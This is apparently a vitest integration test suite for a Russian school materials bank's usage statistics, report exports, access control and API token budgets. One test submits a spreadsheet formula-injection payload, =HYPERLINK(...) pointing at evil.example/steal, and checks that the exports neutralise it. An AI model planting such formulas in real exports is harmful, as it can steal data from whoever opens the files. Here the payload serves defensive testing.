import { Writable } from 'node:stream';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { createLogger } from '../../common/logger.ts';
import { buildLevel, buildMaterial, buildOrganization, buildPerson, buildSubject } from '../../test/factories.ts';
import { useTestApp } from '../../test/harness.ts';
import { signIn } from '../../test/sign-in.ts';
import { Role } from '../accounts/user.entity.ts';
import type { Material } from '../materials/material.entity.ts';
import { MaterialKind, MaterialStatus } from '../materials/material.enums.ts';
import { REPORTS } from './report-definitions.ts';
import { districtDay } from '../usage/usage-recorder.ts';

const warnings: string[] = [];
const sink = new Writable({
  write(chunk, _encoding, done) {
    warnings.push(String(chunk));
    done();
  },
});
// A district five hours east of UTC: its days start at 19:00 UTC.
const app = useTestApp({ timeZone: 'Asia/Yekaterinburg', logger: createLogger('warn', sink) });
const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36';
const REPORT = `query($period: PeriodInput!) { usageReport(period: $period) {
  timeZone views downloads searches zeroResultSearches daily { day views downloads searches }
  topMaterials { material { title } views downloads } topQueries { query searches zeroResults } zeroResultQueries { query searches zeroResults } } }`;

let popular: Material;
let other: Material;
let methodist: string;

async function ask(query: string, variables: Record<string, unknown>, userAgent = BROWSER) {
  const response = await fetch(`${app.url}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'user-agent': userAgent },
    body: JSON.stringify({ query, variables }),
  });
  expect(response.status).toBe(200);
  return response.json();
}
const today = () => districtDay(new Date(), 'Asia/Yekaterinburg');
const report = async (from: string, to = from) => (await app.gql(REPORT, { period: { from, to } }, methodist)).data.usageReport;

beforeAll(async () => {
  const em = app.em();
  popular = await buildMaterial(em, { title: 'Статистика: дроби на практике', keywords: ['дроби'] });
  other = await buildMaterial(em, { title: 'Статистика: второй материал' });
  await buildMaterial(em, { title: 'Статистика: черновик', status: MaterialStatus.DRAFT });
  methodist = (await signIn(app, Role.METHODIST)).token;
});

describe('usage statistics', () => {
  it('counts views, downloads and searches of people by day, and not those of robots', async () => {
    const view = 'query($id: ID!) { material(id: $id) { title } }';
    for (let i = 0; i < 3; i++) await ask(view, { id: popular.globalId });
    await ask(view, { id: other.globalId });
    await ask(view, { id: popular.globalId }, 'Googlebot/2.1 (+http://www.google.com/bot.html)');
    await ask(view, { id: popular.globalId }, 'curl/8.5.0');
    const search = 'query($q: String) { search(query: $q) { totalCount } }';
    await app.indexer.drainAll();
    expect((await ask(search, { q: 'Дроби' })).data.search.totalCount).toBeGreaterThan(0);
    await ask(search, { q: '  дроби ' });
    for (let i = 0; i < 3; i++) await ask(search, { q: 'Квазизвёздный радиотелескоп' });
    await ask(search, { q: 'квазизвёздный радиотелескоп' }, 'YandexBot/3.0');
    app.files.usage.download('00000000-0000-4000-8000-000000000001', popular.id); // a file unknown here: totals only for the material
    await app.files.usage.flush();

    const day = today();
    const usage = await report(day);
    expect(usage).toMatchObject({ timeZone: 'Asia/Yekaterinburg', views: 4, searches: 5, zeroResultSearches: 3 });
    expect(usage.daily).toEqual([{ day, views: 4, downloads: 0, searches: 5 }]);
    expect(usage.topMaterials).toEqual([
      { material: { title: 'Статистика: дроби на практике' }, views: 3, downloads: 1 },
      { material: { title: 'Статистика: второй материал' }, views: 1, downloads: 0 },
    ]);
    expect(usage.topQueries).toEqual([
      { query: 'квазизвездный радиотелескоп', searches: 3, zeroResults: 3 },
      { query: 'дроби', searches: 2, zeroResults: 0 },
    ]);
    expect(usage.zeroResultQueries).toEqual([{ query: 'квазизвездный радиотелескоп', searches: 3, zeroResults: 3 }]);
    // The running total on the material moved too (the "most viewed" order reads it).
    expect(
      (await app.gql('query($id: ID!) { material(id: $id) { viewCount downloadCount } }', { id: popular.globalId }, methodist)).data
        .material,
    ).toEqual({ viewCount: 3, downloadCount: 1 });
  });

  it('puts an event in the district day it happened in, and a period includes both its ends', async () => {
    const usage = app.files.usage;
    usage.view(other.id, new Date('2026-03-01T18:59:59Z')); // 23:59:59 in Yekaterinburg, 1 March
    usage.view(other.id, new Date('2026-03-01T19:00:00Z')); // 00:00 on 2 March there
    usage.view(other.id, new Date('2026-03-03T18:59:59Z'));
    usage.search('Проектная деятельность', 4, new Date('2026-03-02T12:00:00Z'));
    await usage.flush();
    expect((await report('2026-03-01')).views).toBe(1);
    expect((await report('2026-03-02')).views).toBe(1);
    const span = await report('2026-03-01', '2026-03-03');
    expect(span.daily).toEqual([
      { day: '2026-03-01', views: 1, downloads: 0, searches: 0 },
      { day: '2026-03-02', views: 1, downloads: 0, searches: 1 },
      { day: '2026-03-03', views: 1, downloads: 0, searches: 0 },
    ]);
    expect((await report('2026-02-28')).views).toBe(0);
  });

  it('shows reports to methodists and admins only, and checks the period', async () => {
    const reader = await signIn(app, Role.READER);
    const period = { from: today(), to: today() };
    expect((await app.gql(REPORT, { period }, reader.token)).errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    expect((await app.gql(REPORT, { period })).errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
    const admin = await signIn(app, Role.ADMIN);
    expect((await app.gql(REPORT, { period }, admin.token)).errors).toBeUndefined();
    const backwards = await app.gql(REPORT, { period: { from: '2026-03-02', to: '2026-03-01' } }, methodist);
    expect(backwards.errors?.[0]).toMatchObject({ extensions: { code: 'BAD_USER_INPUT', argument: 'period' } });
  });

  it('refuses a report period with a day that does not exist (30 February, year 0) as bad input, in GraphQL and in downloads', async () => {
    for (const period of [
      { from: '2026-02-01', to: '2026-02-30' },
      { from: '0000-01-01', to: '0000-12-31' },
    ]) {
      const answer = await app.gql(REPORT, { period }, methodist);
      expect(answer.errors?.[0]?.extensions?.code, JSON.stringify(period)).toBe('BAD_USER_INPUT');
    }
    for (const path of [
      '/reports/usage.csv?from=2026-02-01&to=2026-02-30',
      '/reports/materials.xlsx?from=0000-01-01&to=0000-12-31',
      '/reports/annual-0000.xlsx',
    ]) {
      const response = await fetch(`${app.url}${path}`, { headers: { authorization: `Bearer ${methodist}` } });
      expect(response.status, path).toBe(400);
      expect((await response.json()).error, path).toMatch(/такого дня нет/);
    }
  });

  it('never fails a read when statistics cannot be written: the failure is logged', async () => {
    const connection = app.em().getConnection();
    await connection.execute('alter table material_usage_daily rename to material_usage_daily_away');
    try {
      const answer = await ask('query($id: ID!) { material(id: $id) { title } }', { id: popular.globalId });
      expect(answer.data.material.title).toBe('Статистика: дроби на практике');
      await expect(app.files.usage.flush()).resolves.toBeUndefined();
      expect(warnings.join('')).toContain('usage statistics not written');
    } finally {
      await connection.execute('alter table material_usage_daily_away rename to material_usage_daily');
    }
  });
});

describe('reports', () => {
  const APRIL = { from: '2026-04-01', to: '2026-04-30' };
  let methodistToken: string;
  let young: Material;

  beforeAll(async () => {
    const em = app.em();
    methodistToken = (await signIn(app, Role.METHODIST)).token;
    const schoolA = await buildOrganization(em, { name: 'Отчёты: школа А' });
    // A short name, where there is one, is what a report's reader knows the school by.
    const schoolB = await buildOrganization(em, {
      name: 'Муниципальное бюджетное общеобразовательное учреждение «Отчёты: школа Б»',
      shortName: 'Отчёты: школа Б',
    });
    const chemistry = await buildSubject(em, 'Отчёты-химия');
    const basic = await buildLevel(em, 'О-ООО');
    const primary = await buildLevel(em, 'О-НОО');
    const preschool = await buildLevel(em, 'О-ДО');
    // The levels each subject is taught at: the only pairs the gaps report may name.
    chemistry.levels.set([basic, primary]);
    (await buildSubject(em, 'Отчёты-дошкольное')).levels.set([preschool]);
    await em.flush();
    const [novice, senior, other] = [
      await buildPerson(em, { fullName: 'Новикова Анна Сергеевна', organization: schoolA, experienceYears: 1 }),
      await buildPerson(em, { fullName: 'Старова Ольга Ивановна', organization: schoolA, experienceYears: 20 }),
      await buildPerson(em, { fullName: 'Борисов Пётр Ильич', organization: schoolB, experienceYears: 12 }),
    ];
    young = await buildMaterial(em, {
      title: 'Отчёты: практика молодого учителя',
      kind: MaterialKind.BEST_PRACTICE,
      authors: [novice],
      subjects: [chemistry],
      levels: [basic],
    });
    const draft = await buildMaterial(em, {
      title: 'Отчёты: черновик',
      kind: MaterialKind.METHODOLOGICAL_MATERIAL,
      status: MaterialStatus.DRAFT,
      authors: [senior],
      subjects: [chemistry],
    });
    const inReview = await buildMaterial(em, {
      title: 'Отчёты: на экспертизе',
      kind: MaterialKind.PUBLICATION,
      status: MaterialStatus.IN_REVIEW,
      authors: [other],
    });
    const slow = await buildMaterial(em, { title: 'Отчёты: долгая экспертиза', kind: MaterialKind.PUBLICATION, authors: [other] });
    const may = await buildMaterial(em, { title: 'Отчёты: майский', authors: [senior] });
    const connection = em.getConnection();
    const created = async (m: Material, at: string) => connection.execute('update material set created_at = ? where id = ?', [at, m.id]);
    await created(young, '2026-04-02T09:00:00Z');
    await created(draft, '2026-04-15T09:00:00Z');
    await created(inReview, '2026-03-31T19:30:00Z'); // 1 April, 00:30 in Yekaterinburg
    await created(slow, '2026-03-01T09:00:00Z');
    await created(may, '2026-04-30T19:30:00Z'); // already 1 May there
    const revision = (m: Material, action: string, at: string) =>
      connection.execute(
        `insert into material_revision (id, material_id, version, action, changes, snapshot, created_at) values (gen_random_uuid(), ?, 1, ?, '{}', '{}', ?)`,
        [m.id, action, at],
      );
    await revision(young, 'submitted', '2026-04-03T10:00:00Z');
    await revision(young, 'published', '2026-04-05T10:00:00Z'); // 2 days
    await revision(slow, 'submitted', '2026-04-01T10:00:00Z');
    await revision(slow, 'returned', '2026-04-05T10:00:00Z');
    await revision(slow, 'submitted', '2026-04-10T10:00:00Z');
    await revision(slow, 'published', '2026-04-20T10:00:00Z'); // 10 days from the last submission
  });

  const ask = async (query: string, variables: Record<string, unknown> = {}) => {
    const answer = await app.gql(query, variables, methodistToken);
    expect(answer.errors).toBeUndefined();
    return answer.data;
  };

  it('counts materials created in the period by organization and by kind, per state, in district days', async () => {
    const rows = (
      await ask(
        `query($p: PeriodInput!) { materialsReport(period: $p, by: ORGANIZATION) { label total draft inReview published rejected archived } }`,
        { p: APRIL },
      )
    ).materialsReport;
    expect(rows).toEqual([
      { label: 'Отчёты: школа А', total: 2, draft: 1, inReview: 0, published: 1, rejected: 0, archived: 0 },
      { label: 'Отчёты: школа Б', total: 1, draft: 0, inReview: 1, published: 0, rejected: 0, archived: 0 },
    ]);
    const kinds = (await ask(`query($p: PeriodInput!) { materialsReport(period: $p, by: KIND) { label total } }`, { p: APRIL }))
      .materialsReport;
    expect(kinds).toEqual([
      { label: 'Методический материал', total: 1 },
      { label: 'Педагогическая практика', total: 1 },
      { label: 'Публикация', total: 1 },
    ]);
    const subjects = (
      await ask(`query($p: PeriodInput!) { materialsReport(period: $p, by: SUBJECT) { label total published } }`, { p: APRIL })
    ).materialsReport;
    expect(subjects).toContainEqual({ label: 'Отчёты-химия', total: 2, published: 1 });
  });

  it('shows authors by organization with young specialists apart', async () => {
    const rows = (
      await ask(
        `query($p: PeriodInput!) { authorsActivity(period: $p) { organization authors materials published youngAuthors youngMaterials } }`,
        { p: APRIL },
      )
    ).authorsActivity;
    expect(rows).toEqual([
      { organization: 'Отчёты: школа А', authors: 2, materials: 2, published: 1, youngAuthors: 1, youngMaterials: 1 },
      { organization: 'Отчёты: школа Б', authors: 1, materials: 1, published: 0, youngAuthors: 0, youngMaterials: 0 },
    ]);
  });

  it('measures review turnaround from the last submission to publication: median and p90', async () => {
    const turnaround = (
      await ask(`query($p: PeriodInput!) { reviewTurnaround(period: $p) { published medianDays p90Days } }`, { p: APRIL })
    ).reviewTurnaround;
    expect(turnaround).toEqual({ published: 2, medianDays: 6, p90Days: 9.2 });
    const march = (
      await ask(`query($p: PeriodInput!) { reviewTurnaround(period: $p) { published medianDays } }`, {
        p: { from: '2026-03-01', to: '2026-03-31' },
      })
    ).reviewTurnaround;
    expect(march).toEqual({ published: 0, medianDays: null });
  });

  it('finds the pairs of a subject and a level it is taught at where the bank is thin, and no others', async () => {
    const gaps: Array<{ subject: string; level: string }> = (await ask(`{ coverageGaps(below: 1) { subject level levelName published } }`))
      .coverageGaps;
    expect(gaps).toContainEqual({ subject: 'Отчёты-химия', level: 'О-НОО', levelName: 'Уровень О-НОО', published: 0 });
    expect(gaps).toContainEqual({ subject: 'Отчёты-дошкольное', level: 'О-ДО', levelName: 'Уровень О-ДО', published: 0 });
    const pairs = gaps.filter((g) => g.subject.startsWith('Отчёты-')).map((g) => `${g.subject} × ${g.level}`);
    // Chemistry at the basic level has a published material; preschool work is not taught at school levels.
    expect(pairs.sort()).toEqual(['Отчёты-дошкольное × О-ДО', 'Отчёты-химия × О-НОО']);
  });
  it('downloads a report as a formatted XLSX and as CSV, and the annual summary as one workbook', async () => {
    const auth = { authorization: `Bearer ${methodistToken}` };
    const xlsx = await fetch(`${app.url}/reports/materials.xlsx?from=2026-04-01&to=2026-04-30&by=ORGANIZATION`, { headers: auth });
    expect(xlsx.status).toBe(200);
    expect(xlsx.headers.get('content-type')).toContain('spreadsheetml');
    expect(decodeURIComponent(xlsx.headers.get('content-disposition')!)).toContain('Материалы — организации 2026-04-01—2026-04-30.xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as never);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getCell('A1').value).toBe('Материалы по организациям, созданные с 01.04.2026 по 30.04.2026');
    expect(sheet.getRow(2).values).toEqual([
      undefined,
      'Значение',
      'Всего',
      'Черновики',
      'На экспертизе',
      'Опубликовано',
      'Отклонено',
      'В архиве',
    ]);
    expect(sheet.getRow(2).font?.bold).toBe(true);
    expect(sheet.getColumn(1).width).toBe(48);
    expect(sheet.getRow(3).values).toEqual([undefined, 'Отчёты: школа А', 2, 1, 0, 1, 0, 0]);
    expect(sheet.getRow(4).values).toEqual([undefined, 'Отчёты: школа Б', 1, 0, 1, 0, 0, 0]);

    const csv = await fetch(`${app.url}/reports/authors.csv?from=2026-04-01&to=2026-04-30`, { headers: auth });
    const bytes = Buffer.from(await csv.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.toString('utf8').slice(1).split('\r\n');
    expect(lines[0]).toBe('Активность авторов по организациям с 01.04.2026 по 30.04.2026 (молодые специалисты — стаж меньше 3 лет)');
    expect(lines[1]).toBe('Организация;Авторов;Материалов;Опубликовано;Молодых специалистов;Их материалов');
    expect(lines[2]).toBe('Отчёты: школа А;2;2;1;1;1');

    const annual = await fetch(`${app.url}/reports/annual-2026.xlsx`, { headers: auth });
    const summary = new ExcelJS.Workbook();
    await summary.xlsx.load(Buffer.from(await annual.arrayBuffer()) as never);
    expect(summary.worksheets.map((w) => w.name)).toEqual([
      'Использование',
      'Поисковые запросы',
      'Материалы — организации',
      'Материалы — предметы',
      'Материалы — уровни',
      'Материалы — виды',
      'Активность авторов',
      'Сроки экспертизы',
      'Пробелы банка',
    ]);
    expect(summary.getWorksheet('Использование')!.rowCount).toBe(2 + 365);
    expect(summary.getWorksheet('Сроки экспертизы')!.getRow(3).values).toEqual([undefined, 2, 6, 9.2]);

    const reader = await signIn(app, Role.READER);
    expect(
      (await fetch(`${app.url}/reports/gaps.csv?from=2026-04-01&to=2026-04-30`, { headers: { authorization: `Bearer ${reader.token}` } }))
        .status,
    ).toBe(403);
    expect((await fetch(`${app.url}/reports/gaps.csv?from=2026-04-01&to=2026-04-30`)).status).toBe(401);
    expect((await fetch(`${app.url}/reports/gaps.csv?from=апрель&to=2026-04-30`, { headers: auth })).status).toBe(400);
    expect((await fetch(`${app.url}/reports/salaries.csv`, { headers: auth })).status).toBe(404);
  });
});

describe('reports defined once', () => {
  it("gives in every report's GraphQL query and in its CSV the same rows, under the same columns, in the definition's order", async () => {
    const token = (await signIn(app, Role.METHODIST)).token;
    await buildMaterial(app.em(), {
      title: 'Отчёты один раз: материал периода',
      kind: MaterialKind.PUBLICATION,
      subjects: [await buildSubject(app.em(), 'Отчёты-один-раз')],
      levels: [await buildLevel(app.em(), 'ООР-ООО')],
    });
    const day = today();
    const args: Record<string, [string, string, unknown]> = {
      period: ['PeriodInput!', `from=${day}&to=${day}`, { from: day, to: day }],
      by: ['ReportDimension!', 'by=KIND', 'KIND'],
      below: ['Int', 'below=2', 2],
    };
    const asked = REPORTS.filter((report) => report.query);
    expect(asked.map((report) => report.query!.name).sort()).toEqual([
      'authorsActivity',
      'coverageGaps',
      'materialsReport',
      'reviewTurnaround',
    ]);
    for (const report of asked) {
      const names = report.params;
      const query = `query(${names.map((n) => `$${n}: ${args[n]![0]}`).join(', ')}) { answer: ${report.query!.name}(${names.map((n) => `${n}: $${n}`).join(', ')}) { ${report.columns.map((c) => c.key).join(' ')} } }`;
      const answer = await app.gql(query, Object.fromEntries(names.map((n) => [n, args[n]![2]])), token);
      expect(answer.errors, report.name).toBeUndefined();
      const rows = ([] as Array<Record<string, unknown>>).concat(answer.data.answer);
      expect(rows.length, report.name).toBeGreaterThan(0);
      const csv = await fetch(
        `${app.url}/reports/${report.name}.csv?${Object.values(args)
          .map(([, q]) => q)
          .join('&')}`,
        { headers: { authorization: `Bearer ${token}` } },
      );
      const lines = (await csv.text()).slice(1).split('\r\n').filter(Boolean);
      expect(lines[1], report.name).toBe(report.columns.map((c) => c.header).join(';'));
      expect(lines.slice(2), report.name).toEqual(
        rows.map((row) => report.columns.map((c) => (row[c.key] === null ? '' : String(row[c.key]))).join(';')),
      );
    }
  });
});

describe('report files and what strangers type', () => {
  it('an anonymous search for =HYPERLINK(…) reaches the queries report as text: with a leading apostrophe in CSV, a string cell in XLSX', async () => {
    const attack = '=HYPERLINK("http://evil.example/steal","Открыть")';
    await ask('query($q: String) { search(query: $q) { totalCount } }', { q: attack });
    await app.files.usage.flush();
    const auth = { authorization: `Bearer ${methodist}` };
    const period = `from=${today()}&to=${today()}`;

    const csv = await (await fetch(`${app.url}/reports/queries.csv?${period}`, { headers: auth })).text();
    const line = csv.split('\r\n').find((l) => l.includes('evil.example'));
    expect(line).toMatch(/^"'=hyperlink\(""http:\/\/evil\.example\/steal"",""открыть""\)";1;[01]$/);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      Buffer.from(await (await fetch(`${app.url}/reports/queries.xlsx?${period}`, { headers: auth })).arrayBuffer()) as never,
    );
    const cell = workbook.worksheets[0]!.getColumn(1).values.indexOf('=hyperlink("http://evil.example/steal","открыть")');
    expect(cell).toBeGreaterThan(2);
    expect(workbook.worksheets[0]!.getCell(cell, 1).type).toBe(ExcelJS.ValueType.String);
    expect(workbook.worksheets[0]!.getCell(cell, 2).value).toBe(1);
  });
});

describe('report files for other systems', () => {
  const issue = async (scope: 'READ' | 'READ_WRITE', budget: number, owner = methodist) =>
    (
      await app.gql(
        `mutation($scope: TokenScope!, $budget: Int) { createApiToken(name: "Отчётная система района", scope: $scope, budgetPerHour: $budget) { token apiToken { id } } }`,
        { scope, budget },
        owner,
      )
    ).data.createApiToken;
  const download = (file: string, token: string) => fetch(`${app.url}/reports/${file}`, { headers: { authorization: `Bearer ${token}` } });
  const period = '?from=2026-04-01&to=2026-04-30';

  it("accepts a methodist's API token (Authorization: Bearer kbt_…) on /reports, charging its hourly budget: the annual summary costs 10, one report 1; over budget 429 with Retry-After", async () => {
    const { token } = await issue('READ_WRITE', 12);
    const csv = await download(`queries.csv${period}`, token);
    expect(csv.status).toBe(200);
    expect(await csv.text()).toContain('Частые поисковые запросы');
    expect([csv.headers.get('x-ratelimit-limit'), csv.headers.get('x-ratelimit-cost'), csv.headers.get('x-ratelimit-remaining')]).toEqual([
      '12',
      '1',
      '11',
    ]);
    const annual = await download('annual-2026.xlsx', token);
    expect(annual.status).toBe(200);
    expect([annual.headers.get('x-ratelimit-cost'), annual.headers.get('x-ratelimit-remaining')]).toEqual(['10', '1']);
    expect((await download(`gaps.xlsx${period}`, token)).status).toBe(200);
    const over = await download(`gaps.csv${period}`, token);
    expect(over.status).toBe(429);
    expect(Number(over.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(((await over.json()) as { error: string }).error).toContain('Бюджет токена исчерпан');
  });

  it("refuses on /reports a READ token (it reads as an anonymous reader), a token whose owner is no longer a methodist, and an unknown or revoked token, saying why; an admin's token is accepted", async () => {
    const read = await issue('READ', 100);
    const readOnly = await download(`queries.csv${period}`, read.token);
    expect(readOnly.status).toBe(403);
    expect(((await readOnly.json()) as { error: string }).error).toContain('READ_WRITE');

    const writer = await issue('READ_WRITE', 100);
    await app.gql('mutation($id: ID!) { revokeApiToken(id: $id) { revokedAt } }', { id: writer.apiToken.id }, methodist);
    const revoked = await download(`queries.csv${period}`, writer.token);
    expect(revoked.status).toBe(401);
    expect(((await revoked.json()) as { error: string }).error).toBe('Токен не принят: он отозван');
    expect((await download(`queries.csv${period}`, 'kbt_no-such-token-0000000000000000000000')).status).toBe(401);

    // A token acts with its owner's rights as they are now: a methodist moved to author loses the reports.
    const former = await signIn(app, Role.METHODIST);
    const formerToken = (await issue('READ_WRITE', 100, former.token)).token;
    await app.em().getConnection().execute(`update app_user set role = 'AUTHOR' where email = ?`, [former.email]);
    expect((await download(`queries.csv${period}`, formerToken)).status).toBe(403);
    const admin = await signIn(app, Role.ADMIN);
    expect((await download(`queries.csv${period}`, (await issue('READ_WRITE', 100, admin.token)).token)).status).toBe(200);
  });
});
